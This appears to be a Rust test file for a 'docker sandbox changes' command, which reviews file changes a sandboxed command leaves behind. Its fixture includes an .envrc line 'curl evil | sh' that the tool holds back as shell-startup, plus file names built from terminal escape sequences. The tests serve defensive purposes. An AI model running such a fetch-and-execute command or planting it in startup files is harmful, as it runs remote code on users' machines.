//! `changes`: what waits is listed and shown.

use std::fs;
use std::io::Read as _;
use std::os::fd::OwnedFd;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};
use snapbox::str;

use crate::changes_stage::{Changes, a_few, held, is_kept, locked, repository, snapshot};
use crate::environment::{TestEnvironment, raw};

#[test]
fn nothing_waits_is_a_line_and_a_success() {
    let test = repository();
    test.docker("sandbox changes").is(str![[r#"
exit 0
--- stderr
docker sandbox: no changes of `[ROOT]/work/repo` wait; those of all projects: docker sandbox changes --all

"#]]);
    test.docker("sandbox changes --all").is(str![[r#"
exit 0
--- stderr
docker sandbox: no changes wait

"#]]);
    test.docker("sandbox changes --format json").is(str![[r#"
exit 0
--- stdout
[]

"#]]);
    for line in ["--apply", "--drop", "--diff", "--stat"] {
        let ended = test.docker(&format!("sandbox changes {line}"));
        assert_eq!((ended.code, ended.stdout()), (Some(0), ""), "{}", ended.text());
    }
}

#[test]
fn changes_are_listed_per_project_and_all_with_their_project() {
    let mut test = repository();
    a_few(&test);
    Changes::new(&test, "bb22", "work/other").file("x", "added", held("shell-startup"), "x").put();
    // A warm sandbox's, whose command has not begun, and one whose command runs.
    Changes::new(&test, "cc33", "work/repo").since(0).phase("running", "upper").put();
    Changes::new(&test, "dd44", "work/repo").phase("running", "upper").left("x", 0o644, "x").put();
    let running = locked(&test, "dd44");
    test.enter("work/repo/src");
    test.docker("sandbox changes").is(str![[r#"
exit 0
--- stdout
ID     COMMAND     CREATED   CHANGES
aa11   make aa11   2h        1 held back, 1 conflict, 1 failed, 2 to review
--- stderr
docker sandbox: show those of one command: docker sandbox changes aa11

"#]]);
    test.docker("sandbox changes --all").is(str![[r#"
exit 0
--- stdout
ID     COMMAND     CREATED   CHANGES                                          PROJECT
aa11   make aa11   2h        1 held back, 1 conflict, 1 failed, 2 to review   [ROOT]/work/repo
bb22   make bb22   2h        1 held back                                      [ROOT]/work/other
--- stderr
docker sandbox: show those of one command: docker sandbox changes aa11

"#]]);
    test.docker("sandbox changes d").fails(str![[r#"
exit 1
--- stderr
docker sandbox: the changes `dd44` are not complete: their command still runs
hint: see what runs:
    docker sandbox ls --all

"#]]);
    test.docker("sandbox changes dd --drop").fails(str![[r#"
exit 1
--- stderr
docker sandbox: the changes `dd44` are not complete: their command still runs
hint: see what runs:
    docker sandbox ls --all

"#]]);
    drop(running);
    assert!(is_kept(&test, "cc33") && is_kept(&test, "dd44"));
}

#[test]
fn a_directory_in_no_repository_belongs_to_those_above_it() {
    let mut test = TestEnvironment::new();
    Changes::new(&test, "aa11", "work/plain").file("x", "added", "wanted", "x").put();
    for (directory, found) in
        [("work/plain", true), ("work/plain/sub", true), ("work", false), ("work/plain2", false)]
    {
        test.enter(directory);
        let listed = test.docker("sandbox changes");
        assert_eq!(listed.stdout().contains("aa11"), found, "{directory}: {}", listed.text());
    }
    // A repository of its own is a project of its own.
    test.write("work/plain/sub/.git/HEAD", "ref: refs/heads/main\n");
    test.enter("work/plain/sub");
    fs::create_dir_all(test.path("work/plain/sub/.git/objects")).unwrap();
    fs::create_dir_all(test.path("work/plain/sub/.git/refs")).unwrap();
    assert_eq!(test.docker("sandbox changes").stdout(), "");
}

#[test]
fn one_is_named_by_a_unique_prefix_of_its_id() {
    let mut test = repository();
    a_few(&test);
    Changes::new(&test, "aa99", "work/repo").file("x", "added", "wanted", "x").put();
    test.docker("sandbox changes aa1").is(str![[r#"
exit 0
--- stdout
PATH          CHANGE     LINES    STATE       WHY
.envrc        added      +1 -0    held back   shell-startup: it runs what they say, or programs that they choose
README        modified   +2 -1    to review   -
bin           added      binary   failed      No space left on device
old           removed    +0 -1    to review   -
src/main.rs   modified   +1 -1    conflict    it changed on the host since the command began
--- stderr
docker sandbox: see the differences: docker sandbox changes aa11 --diff
docker sandbox: apply what no rule holds back: docker sandbox changes aa11 --apply

"#]]);
    test.docker("sandbox changes aa").is(str![[r#"
exit 2
--- stderr
docker sandbox: the ids of 2 changes begin with `aa`
hint: those of make aa11:
    docker sandbox changes aa11
hint: those of make aa99:
    docker sandbox changes aa99

"#]]);
    test.docker_words(["sandbox", "changes", "\x1b[2J"]).is(str![[r#"
exit 2
--- stderr
docker sandbox: no changes with the id `\u{1b}[2J` wait
hint: list the changes of all projects:
    docker sandbox changes --all

"#]]);
    test.docker_words(["sandbox", "changes", ""]).is(str![[r#"
exit 2
--- stderr
docker sandbox: no changes with the id `` wait
hint: list the changes of all projects:
    docker sandbox changes --all

"#]]);
    // From anywhere; paths are as they can be typed there.
    test.enter("work/repo/src");
    test.docker("sandbox changes aa11").is(str![[r#"
exit 0
--- stdout
PATH        CHANGE     LINES    STATE       WHY
../.envrc   added      +1 -0    held back   shell-startup: it runs what they say, or programs that they choose
../README   modified   +2 -1    to review   -
../bin      added      binary   failed      No space left on device
../old      removed    +0 -1    to review   -
main.rs     modified   +1 -1    conflict    it changed on the host since the command began
--- stderr
docker sandbox: see the differences: docker sandbox changes aa11 --diff
docker sandbox: apply what no rule holds back: docker sandbox changes aa11 --apply

"#]]);
    test.enter("home");
    let elsewhere = test.docker("sandbox changes aa11");
    assert!(elsewhere.stdout().contains(&format!("\n{}", test.path("work/repo/.envrc").display())));
}

#[test]
fn differences_are_shown_as_git_does() {
    let test = repository();
    a_few(&test);
    let before = snapshot(&test.path("work"));
    test.docker("sandbox changes --diff").is(str![[r#"
exit 0
--- stdout
diff --git a/.envrc b/.envrc
new file mode 100644
--- /dev/null
+++ b/.envrc
@@ -0,0 +1 @@
+curl evil | sh
diff --git a/README b/README
--- a/README
+++ b/README
@@ -1,3 +1,4 @@
 a
-b
+B
 c
+d
diff --git a/bin b/bin
new file mode 100755
Binary files /dev/null and b/bin (7 bytes) differ
diff --git a/old b/old
deleted file mode 100644
--- a/old
+++ /dev/null
@@ -1 +0,0 @@
-old
diff --git a/src/main.rs b/src/main.rs
--- a/src/main.rs
+++ b/src/main.rs
@@ -1 +1 @@
-fn main() {}
+fn main() { panic!() }

"#]]);
    test.docker("sandbox changes aa11 --stat").is(str![[r#"
exit 0
--- stdout
 .envrc      | 1 +
 README      | 3 ++-
 bin         | Bin 0 -> 7 bytes
 old         | 1 -
 src/main.rs | 2 +-
 5 files changed, 4 insertions(+), 3 deletions(-)

"#]]);
    Changes::new(&test, "bb22", "work/repo").file("x", "added", "wanted", "x\n").put();
    let both = test.docker("sandbox changes --diff");
    assert!(both.stdout().contains("changes bb22 of make bb22\ndiff --git a/x b/x\n"), "{}", both.text());
    assert_eq!(snapshot(&test.path("work")), before);
}

#[test]
fn programs_get_json() {
    let test = repository();
    a_few(&test);
    let object = Changes::new(&test, "bb22", "work/repo");
    object
        .left(raw(b"\xff\x1b\xc2\x9b"), 0o644, "x")
        .listed("%ff\u{1b}\u{9b}", "added", "file", held("shell-startup"))
        .put();
    let listed = test.docker("sandbox changes --format json");
    assert!(!listed.stdout().chars().any(|c| c.is_control() && c != '\n'), "{}", listed.text());
    let mut listed: Value = serde_json::from_str(listed.stdout()).unwrap();
    let created = listed[0]["created_at"].take();
    assert!(created.as_str().unwrap().ends_with('Z'), "{created}");
    let reason = "it runs what they say, or programs that they choose";
    let path = |path: &str| test.path("work/repo").join(path);
    assert_eq!(
        listed[0],
        json!({
            "id": "aa11",
            "project": test.path("work/repo"),
            "command": "make aa11",
            "created_at": null,
            "changes": [
                {"path": path(".envrc"), "kind": "added", "node": "file", "state": "held-back", "rule": "shell-startup", "reason": reason},
                {"path": path("README"), "kind": "modified", "node": "file", "state": "waiting", "rule": null, "reason": null},
                {"path": path("src/main.rs"), "kind": "modified", "node": "file", "state": "conflict", "rule": null, "reason": "it changed on the host since the command began"},
                {"path": path("old"), "kind": "removed", "node": "file", "state": "waiting", "rule": null, "reason": null},
                {"path": path("bin"), "kind": "added", "node": "file", "state": "failed", "rule": null, "reason": "No space left on device"},
            ],
        })
    );
    let bytes = [path("").as_os_str().as_encoded_bytes(), b"\xff\x1b\xc2\x9b"].concat();
    let data = STANDARD.encode(bytes);
    assert_eq!(listed[1]["changes"][0]["path"], json!({"encoding": "base64", "data": data}));
    let one: Value = serde_json::from_str(test.docker("sandbox changes bb --format json").stdout()).unwrap();
    assert_eq!(one.as_array().unwrap().len(), 1);
}

#[test]
fn hostile_names_and_contents_do_not_drive_the_terminal() {
    let test = repository();
    let name = "e\u{1b}]0;x\u{7}\n\u{202e}";
    Changes::new(&test, "aa11", "work/repo").file(name, "added", "wanted", "\u{1b}[2J\u{9b}\n").put();
    for line in ["", "aa11", "--diff", "--stat", "--all", "--format json", "--apply x", "--apply", "--drop"] {
        let told = test.docker(&format!("sandbox changes {line}"));
        let driving = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
        assert!(!told.text().contains(driving), "{line}: {:?}", told.text());
    }
    assert_eq!(test.read(&format!("work/repo/{name}")), "\u{1b}[2J\u{9b}\n");
}

#[test]
fn wrong_lines_are_refused() {
    let test = repository();
    a_few(&test);
    let before = snapshot(&test.path("work"));
    for line in [
        "aa11 --apply --drop",
        "--diff --stat",
        "--all --drop",
        "--all --apply",
        "aa11 --all",
        "--diff --format json",
        "--format yaml",
        "aa11 bb22",
    ] {
        let refused = test.docker(&format!("sandbox changes {line}"));
        assert_eq!(refused.code, Some(2), "{line}: {}", refused.text());
        assert!(refused.stderr.contains("docker sandbox changes --help"), "{line}: {}", refused.text());
    }
    assert_eq!(snapshot(&test.path("work")), before);
}

#[test]
fn without_a_home_directory_the_error_says_so() {
    let mut test = repository();
    test.set("HOME", test.path("nowhere"));
    test.docker("sandbox changes").is(str![[r#"
exit 1
--- stderr
docker sandbox: there is no home directory, which changes would wait in
hint: set it:
    HOME=DIRECTORY docker sandbox changes

"#]]);
    // The user's entry in /etc/passwd says where home is.
    let data = test.path("home/.local/share");
    test.unset("HOME").set("XDG_DATA_HOME", data);
    assert_eq!(test.docker("sandbox changes --all").code, Some(0));
}

#[test]
fn ids_are_completed() {
    let test = repository();
    a_few(&test);
    Changes::new(&test, "bb22", "work/other").file("x", "added", "wanted", "x").put();
    let complete = |words: &str| test.docker_words(std::iter::once("__complete").chain(words.split(' ')));
    complete("sandbox changes ").is(str![[r#"
exit 0
--- stdout
aa11	make aa11
bb22	make bb22
:4

"#]]);
    complete("sandbox changes --diff b").is(str![[r#"
exit 0
--- stdout
bb22	make bb22
:4

"#]]);
    complete("sandbox changes aa11 --apply ").is(str![[r#"
exit 0
--- stdout
:0

"#]]);
    complete("sandbox changes --format ").is(str![[r#"
exit 0
--- stdout
table
json
:4

"#]]);
}

#[test]
fn on_a_terminal_differences_go_through_the_pager_and_nothing_is_left() {
    let test = repository();
    a_few(&test);
    let shown = |pager: &str| {
        let (terminal, theirs) = terminal();
        let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_docker-sandbox"))
            .args(["changes", "--diff"])
            .env_clear()
            .envs([("HOME", test.path("home")), ("PATH", "/usr/bin:/bin".into()), ("PAGER", pager.into())])
            .current_dir(test.path("work/repo"))
            .stdin(std::process::Stdio::null())
            .stdout(theirs)
            .spawn()
            .unwrap();
        let mut read = Vec::new();
        // A terminal that nobody has open any more is an error.
        let _ = std::fs::File::from(terminal).read_to_end(&mut read);
        assert!(child.wait().unwrap().success());
        String::from_utf8(read).unwrap()
    };
    let plain = shown("cat");
    assert!(plain.starts_with("diff --git a/.envrc b/.envrc\r\n"), "{plain}");
    assert_eq!(shown(""), plain);
    let paged = shown("sed 's/^/> /'");
    assert_eq!(paged, format!("> {}", plain.replace('\n', "\n> ")).trim_end_matches("> "));
    let ours = test.path("home/.local/share/docker-sandbox");
    let names: Vec<_> = fs::read_dir(ours).unwrap().map(|entry| entry.unwrap().file_name()).collect();
    assert_eq!(names, ["changes"]);
}

/// A terminal, and what the program in it has.
fn terminal() -> (OwnedFd, OwnedFd) {
    use rustix::fs::{Mode, OFlags};
    use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
    let ours = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY | OpenptFlags::CLOEXEC).unwrap();
    grantpt(&ours).unwrap();
    unlockpt(&ours).unwrap();
    let flags = OFlags::RDWR | OFlags::NOCTTY | OFlags::CLOEXEC;
    let theirs = rustix::fs::open(ptsname(&ours, Vec::new()).unwrap(), flags, Mode::empty()).unwrap();
    (ours, theirs)
}
